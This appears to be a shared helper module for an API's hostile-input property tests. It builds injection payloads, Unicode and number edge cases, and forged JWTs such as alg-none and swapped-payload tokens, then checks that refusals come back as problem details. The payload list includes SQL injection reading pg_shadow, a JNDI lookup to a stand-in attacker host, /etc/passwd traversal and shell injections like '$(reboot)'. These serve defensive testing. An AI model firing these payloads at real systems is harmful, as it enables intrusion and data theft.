import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { generateLocalTokenJwk, loadLocalTokenKey, signClaims } from '@mel/application';
import { testTokenKey, tokenFor, type TestActor } from './tokens';

/**
 * What the hostile-input suites share (issue 7, part 4): how many cases they run, the hostile values
 * they draw from, the tokens they send, and the check that an answer is RFC 9457 problem details.
 *
 * Runs: each property's number of runs is multiplied by HOSTILE_SOAK — unset, 1 (the CI run); `1`, 20
 * (a soak of a few minutes); any other number, that factor.
 */
const soak = process.env.HOSTILE_SOAK;
export const SOAK_FACTOR = soak === undefined || soak === '' || soak === '0' ? 1 : soak === '1' ? 20 : Math.max(1, Number(soak) || 1);

/** A property test's timeout: jest's 120 s, times SOAK_FACTOR. */
export const PROPERTY_TIMEOUT = 120_000 * SOAK_FACTOR;

/** A property's numRuns: `ci` in a CI run, times SOAK_FACTOR. */
export function runs(ci: number): number {
  return ci * SOAK_FACTOR;
}

/** The hostile cases a CI run must send, all suites together (issue 7, part 4). */
export const CASES_PER_RUN = 10_000;

/**
 * The cases each suite must run per CI run, which add up to CASES_PER_RUN. Each suite counts its own
 * and asserts its share, since jest runs test files in separate module registries; the last one to
 * finish also checks the run's total (expectShareOfCases).
 */
export const CASE_SHARES = { 'hostile-reads': 6_000, 'hostile-commands': 3_000, 'hostile-bodies': 1_000 } as const;

/** Counts the requests a suite's properties send; `report()` prints the count against the suite's share. */
export class CaseCounter {
  count = 0;
  /** How many answers of each status: to see that the cases reach past the guard and the validation. */
  readonly statuses = new Map<number, number>();
  constructor(readonly suite: keyof typeof CASE_SHARES) {}

  /** Counts one case, and the status it was answered. */
  add(status: number): void {
    this.count++;
    this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1);
  }

  get share(): number {
    return CASE_SHARES[this.suite];
  }

  report(startedAt: number): string {
    const seconds = ((Date.now() - startedAt) / 1000).toFixed(1);
    const statuses = [...this.statuses].sort(([a], [b]) => a - b).map(([status, n]) => `${status}: ${n}`).join(', ');
    return `${this.suite}: ${this.count} hostile cases in ${seconds} s (share ${this.share} of the ≥ ${CASES_PER_RUN} per run; soak factor ${SOAK_FACTOR}); answers ${statuses}`;
  }

  /**
   * Records this suite's count for the jest run (a file per suite in the temporary folder, named after
   * the jest process) and answers the counts of the suites of this run that have finished: once all of
   * them have, their total is the run's.
   */
  recordForRun(): { total: number; suites: Record<string, number>; complete: boolean } {
    // In a jest worker (a child process running jest-worker) the run is its parent's; run in band, this process's.
    const run = /jest-worker/.test(process.argv[1] ?? '') ? process.ppid : process.pid;
    const prefix = `ledger-hostile-cases-${run}-`;
    writeFileSync(join(tmpdir(), `${prefix}${this.suite}`), String(this.count));
    const suites: Record<string, number> = {};
    for (const name of readdirSync(tmpdir()).filter((f) => f.startsWith(prefix))) {
      const file = join(tmpdir(), name);
      if (Date.now() - statSync(file).mtimeMs < 30 * 60_000) suites[name.slice(prefix.length)] = Number(readFileSync(file, 'utf8'));
    }
    const total = Object.values(suites).reduce((a, b) => a + b, 0);
    return { total, suites, complete: Object.keys(CASE_SHARES).every((suite) => suite in suites) };
  }
}

/**
 * The last test of each hostile suite: it ran its share of the cases, and, when it is the last of the
 * run's hostile suites to finish, the run ran at least CASES_PER_RUN in total (printed).
 */
export function expectShareOfCases(counter: CaseCounter, startedAt: number): void {
  const run = counter.recordForRun();
  console.log(
    `${counter.report(startedAt)}\n` +
      (run.complete
        ? `hostile input, this run: ${run.total} cases in total (${Object.entries(run.suites).map(([suite, n]) => `${suite} ${n}`).join(', ')}), at least ${CASES_PER_RUN} required`
        : `hostile input, this run so far: ${run.total} cases (${Object.keys(run.suites).join(', ')})`),
  );
  if (counter.count < counter.share) throw new Error(`${counter.suite} ran ${counter.count} hostile cases, fewer than its share of ${counter.share}`);
  if (run.complete && run.total < CASES_PER_RUN) throw new Error(`the hostile suites ran ${run.total} cases in this run, fewer than ${CASES_PER_RUN}`);
}

// ---------------------------------------------------------------------------------------------------
// Hostile values

/** Shaped like attacks on what may lie behind the API: SQL, JSON, paths, templates, LDAP, shells, logs. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE event_store.events; --",
  "1; SELECT pg_sleep(5); --",
  "1' UNION SELECT usename, passwd FROM pg_shadow --",
  '$1',
  "E'\\\\x00'",
  '{"$gt":""}',
  '{"__proto__":{"admin":true}}',
  '[]',
  '{}',
  'null',
  'true',
  'undefined',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd%00.json',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://attacker.example/a}',
  '*)(uid=*))(|(uid=*',
  '(|(objectClass=*))',
  'admin)(&)',
  '*',
  'x\r\nX-Injected: 1',
  'x\r\n\r\n<html>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(reboot)',
  '`id`',
  '%s%s%s%n',
  `${'a'.repeat(40)}!`,
  'constructor',
  '__proto__',
  'prototype',
  'hasOwnProperty',
];

/** Unicode's edges: direction overrides, emoji and joiners, combining marks, BOM, controls, lone surrogates, look-alike digits. */
export const UNICODE_EDGES = [
  '\u202Eabc\u202C',
  '\u200F\u061C',
  '😀',
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  'e\u0301',
  'Z\u0338\u0322\u031B\u0317\u0325\u0344\u0313\u036D',
  '\uFEFFx',
  '\u200Bx',
  '\u00A0',
  '\u2028\u2029',
  '\u0000',
  'a\u0000b',
  '\u0007\u001B[31m',
  '\uD800',
  '\uDFFF',
  'x\uDBFF',
  '\uFFFF',
  '\uFFFE',
  '１２３',
  '١٢٣',
  '²',
  'ǅ',
  'ı',
  'İ',
  'ﬁ',
  'Ⅻ',
  '𝟙𝟚𝟛',
  'ß'.repeat(50),
  '\u0301'.repeat(200),
];

/** Text that is a number to some parser and not to another, or a number out of every range. */
export const NUMBERISH = [
  '-1',
  '0',
  '-0',
  '1.5',
  '1.0',
  '.5',
  '5.',
  '1e309',
  '-1e309',
  '1e2',
  '1E2',
  '0x10',
  '0b1',
  '0o7',
  'NaN',
  'Infinity',
  '-Infinity',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '99999999999999999999',
  '18446744073709551616',
  '-9223372036854775809',
  ' 5',
  '5 ',
  '+5',
  '٥',
  '５',
  '1_000',
  '1,000',
  '',
  '00000000000000000001',
  'true',
  '[]',
];

/** Dates that are no dates, or dates out of every range. */
export const DATEISH = [
  '+275760-09-13T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '+002024-05-07T00:00:00Z',
  '2024-02-30T00:00:00Z',
  '2023-02-29T00:00:00Z',
  '2024-13-01T00:00:00Z',
  '2024-00-10T00:00:00Z',
  '2024-W01-1T00:00Z',
  '2024-001T00:00Z',
  '20240101T000000Z',
  '2024-01-01T25:00Z',
  '2024-01-01T24:00:00Z',
  '2024-01-01T00:60Z',
  '2024-01-01T00:00:60Z',
  '2024-01-01T00:00:00+24:00',
  '2024-01-01T00:00:00+2400',
  '2024-01-01T00:00:00.1234567890Z',
  '2024-01-01 00:00:00Z',
  '2024-01-01t00:00:00z',
  '0000-01-01T00:00:00Z',
  '0000-12-31T23:30:00-01:00',
  '0001-01-01T00:00:00+00:01',
  '0001-01-01T00:00:00Z',
  '1000-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '2019-12-31T23:59:59.999Z',
  '9999-12-31T23:59:59.999Z',
  '9999-12-31T23:59:59-00:01',
  '9999-12-31T23:59:00-23:59',
  '10000-01-01T00:00:00Z',
  'yesterday',
  'now',
  'Tue, 07 May 2024 10:00:00 GMT',
  '1715068800',
  '2024-05-07',
  '2024-5-7',
  '2024-02-29',
  '2023-02-29',
  '0000-01-01',
  '9999-12-31',
  '2024-05-07T10:00:00',
];

/**
 * Raw %-escapes for a URL, sent as they are: a lone surrogate in CESU-8 (%ED%A0%80), overlong UTF-8
 * (%C0%AF is "/", %C0%80 is NUL), NUL, bytes that are no UTF-8, broken escapes, an RTL override, a
 * BOM, an emoji, CRLF with a header after it.
 */
export const RAW_ESCAPES = [
  '%ED%A0%80',
  '%ED%BF%BF',
  '%C0%AF',
  '%C0%80',
  '%E0%80%AF',
  '%00',
  'a%00b',
  '%FF',
  '%FE%FF',
  '%',
  '%zz',
  '%2',
  '%E2%80%AE',
  '%EF%BB%BF',
  '%F0%9F%98%80',
  '%F4%90%80%80',
  '+',
  '%2B',
  '%20',
  '%0D%0AX-Injected:%201',
  '%0D%0A%0D%0A',
  '%25',
  '%2525',
  '%26',
  '%3D',
  '%3F',
  '%23',
  '%2F',
  '%5C',
  '..%2F..%2Fetc%2Fpasswd',
  '%u0041',
];

/** A string of any of the kinds above, or drawn by fast-check (any code unit, ASCII, long). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES, ...NUMBERISH, ...DATEISH) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(1_000), 'é'.repeat(600), '😀'.repeat(150), '9'.repeat(400)) },
);

/** Percent-encodes any string, lone surrogates included (sent as U+FFFD: what a browser would send). */
export function encode(value: string): string {
  return encodeURIComponent(value.toWellFormed());
}

/** A value for a URL, already escaped: encoded text, or a raw escape sent as it is. */
export const hostileUrlValue: fc.Arbitrary<string> = fc.oneof({ weight: 4, arbitrary: hostileText.map(encode) }, { weight: 1, arbitrary: fc.constantFrom(...RAW_ESCAPES) });

// ---------------------------------------------------------------------------------------------------
// Who calls

/** An Authorization header (or none), and what the access guard makes of it. */
export interface HostileCaller {
  label: string;
  authorization?: string;
  /** member: a valid token of a role other than public; public: a valid token of the public role; refused: no actor (401). */
  kind: 'member' | 'public' | 'refused';
}

/**
 * Several roles with valid tokens, and junk: no header, other schemes, garbage, a token signed with
 * another key, badly signed, expired, for another audience, `alg: none`, naming no valid actor
 * (unknown role, a representative without a party), with hostile claims.
 */
export async function hostileCallers(): Promise<HostileCaller[]> {
  const member = async (label: string, actor: TestActor): Promise<HostileCaller> => ({ label, authorization: `Bearer ${await tokenFor(actor)}`, kind: 'member' });
  const refused = (label: string, authorization?: string): HostileCaller => ({ label, authorization, kind: 'refused' });
  const admin = await tokenFor({ subject: 'hostile-admin', role: 'administrator' });
  const otherKey = loadLocalTokenKey({ env: { LEDGER_AUTH_KEY: JSON.stringify(generateLocalTokenJwk()) }, dataDir: '/nonexistent' });
  const now = Math.floor(Date.now() / 1000);
  const b64 = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return [
    await member('administrator', { subject: 'hostile-admin', role: 'administrator' }),
    await member('auditor', { subject: 'hostile-auditor', role: 'auditor' }),
    await member('body secretary', { subject: 'hostile-secretary', role: 'body-secretary', mandate: 'copil-cvs' }),
    await member('signatory representative', { subject: 'hostile-rep', role: 'signatory-representative', partyId: 'party-mel' }),
    await member('representative with hostile claims', { subject: 'x\u202E\u0301😀', role: 'signatory-representative', partyId: "party-mel' OR '1'='1" }),
    { label: 'public', authorization: `Bearer ${await tokenFor({ subject: 'hostile-public', role: 'public' })}`, kind: 'public' },
    refused('no Authorization header'),
    refused('empty header', ''),
    refused('Bearer alone', 'Bearer'),
    refused('Bearer and a space', 'Bearer '),
    refused('Basic scheme', 'Basic dXNlcjpwYXNz'),
    refused('lower-case scheme with garbage', 'bearer abc.def.ghi'),
    refused('garbage token', 'Bearer not-a-token'),
    refused('three dots', 'Bearer ...'),
    refused('injection in the header', "Bearer ' OR '1'='1"),
    refused('two tokens', `Bearer ${admin} ${admin}`),
    refused('badly signed', `Bearer ${admin.slice(0, -3)}abc`),
    refused('payload swapped', `Bearer ${admin.split('.')[0]}.${b64({ sub: 'x', role: 'administrator', exp: now + 3600 })}.${admin.split('.')[2]}`),
    refused('alg none', `Bearer ${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'x', role: 'administrator', exp: now + 3600, iss: 'urn:mel-ledger:local', aud: 'mel-ledger-api' })}.`),
    refused('signed with another key', `Bearer ${await signClaims(otherKey, { subject: 'x', role: 'administrator' })}`),
    refused('expired', `Bearer ${await signClaims(testTokenKey(), { subject: 'x', role: 'administrator' }, { issuedAt: now - 7200, expiresIn: now - 3600 })}`),
    refused('another audience', `Bearer ${await signClaims(testTokenKey(), { subject: 'x', role: 'administrator' }, { audience: 'another-api' })}`),
    refused('unknown role', `Bearer ${await signClaims(testTokenKey(), { subject: 'x', role: 'superuser' })}`),
    refused('representative without a party', `Bearer ${await signClaims(testTokenKey(), { subject: 'x', role: 'signatory-representative' })}`),
    refused('subject with a space', `Bearer ${await signClaims(testTokenKey(), { subject: 'a b', role: 'administrator' })}`),
    refused('no subject', `Bearer ${await signClaims(testTokenKey(), { role: 'administrator' })}`),
    refused('a huge token', `Bearer ${'A'.repeat(6_000)}`),
  ];
}

/** What fetch can send as a header value (Latin-1 printable, not too long for Node's 16 kB of headers). */
export function sendableHeader(value: string): boolean {
  return /^[\t\x20-\x7e]*$/.test(value) && value.length < 8_000;
}

// ---------------------------------------------------------------------------------------------------
// Answers

/** A refusal as it must be: a 4xx, application/problem+json, whose body names its status, type, title and rule. */
export function problemFault(status: number, contentType: string | null, text: string): string | undefined {
  if (status < 400 || status >= 500) return `a ${status}, not a 4xx`;
  if (!contentType?.startsWith('application/problem+json')) return `content-type ${contentType}, not application/problem+json`;
  let problem: { status?: unknown; type?: unknown; title?: unknown; rule?: unknown };
  try {
    problem = JSON.parse(text);
  } catch {
    return 'a body that is not JSON';
  }
  if (problem.status !== status) return `a body whose status is ${String(problem.status)}`;
  if (typeof problem.type !== 'string' || typeof problem.title !== 'string') return 'a body without type or title';
  if (typeof problem.rule !== 'string' || problem.rule.length === 0) return 'a body that names no rule';
  return undefined;
}

/** The rule a problem details body names (undefined if none, or not JSON). */
export function ruleOf(text: string): string | undefined {
  try {
    return (JSON.parse(text) as { rule?: string }).rule;
  } catch {
    return undefined;
  }
}
